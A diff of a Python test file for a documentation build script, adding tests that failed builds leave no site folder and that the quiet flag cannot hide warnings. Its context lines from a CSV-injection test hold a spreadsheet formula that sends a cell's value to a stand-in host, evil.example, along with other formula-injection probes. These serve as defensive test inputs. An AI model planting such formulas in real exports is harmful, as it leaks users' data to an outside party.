@@ -331,3 +331,50 @@ def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(tmp_pat
     action = next(a for a in json.loads((build.site / "data/actions.json").read_text())["actions"] if a["id"] == "1.3")
     assert action["title"] == '=HYPERLINK("https://evil.example/?"&A1,"Click")'  # JSON keeps the value as written
     assert action["leads"] == ["@SUM(1+1)", "-2+3", "Head of Service"]
+
+
+# -- a failed build publishes nothing -------------------------------------------------------------------
+
+def _scripts_build(project: Path) -> subprocess.CompletedProcess:
+    return subprocess.run([str(ROOT / "scripts" / "build"), "-f", str(project / "mkdocs.yml"),
+                           "-d", str(project / "site")], capture_output=True, text=True, timeout=300)
+
+
+def test_a_failed_build_leaves_no_site_at_all(tmp_path):
+    """A strict build that stops on a warning (here a broken link, found after every page was written)
+    used to leave a complete site/ built from the failing content; ./scripts/a11y took it as current."""
+    project = make_project(tmp_path)
+    good = _scripts_build(project)
+    assert good.returncode == 0, good.stdout + good.stderr
+    assert (project / "site" / "index.html").is_file()
+
+    index = project / "content" / "index.md"
+    index.write_text(index.read_text(encoding="utf-8") + "\nSee [the missing page](missing.md).\n", encoding="utf-8")
+    failed = _scripts_build(project)
+    assert failed.returncode != 0
+    assert "missing.md" in failed.stdout + failed.stderr
+    assert not (project / "site").exists(), "a failed build must not leave a site behind"
+    assert sorted(p.name for p in project.iterdir() if p.name.startswith(".")) == []  # no half-built folder
+
+
+def test_a_successful_build_replaces_the_site_whole(tmp_path):
+    project = make_project(tmp_path)
+    (project / "site").mkdir()
+    (project / "site" / "left-over.html").write_text("from an old build")
+    result = _scripts_build(project)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert (project / "site" / "index.html").is_file()
+    assert not (project / "site" / "left-over.html").exists()
+    assert sorted(p.name for p in project.iterdir() if p.name.startswith(".")) == []
+
+
+def test_quiet_does_not_let_a_warning_through(tmp_path):
+    """`mkdocs build --strict -q` succeeds despite warnings (it counts only what it prints)."""
+    page = (ROOT / "tests/fixtures/basic/content/areas/1-finding/1-3-unrated.md").read_text(encoding="utf-8")
+    project = make_project(tmp_path, files={
+        "content/areas/1-finding/1-3-unrated.md": page.replace("status: not-rated\n", "status: not-rated\nstatsu: x\n")})
+    result = subprocess.run([str(ROOT / "scripts" / "build"), "-q", "-f", str(project / "mkdocs.yml"),
+                             "-d", str(project / "site")], capture_output=True, text=True, timeout=300)
+    assert result.returncode != 0
+    assert "statsu: is not a field of an action" in result.stdout + result.stderr
+    assert not (project / "site").exists()
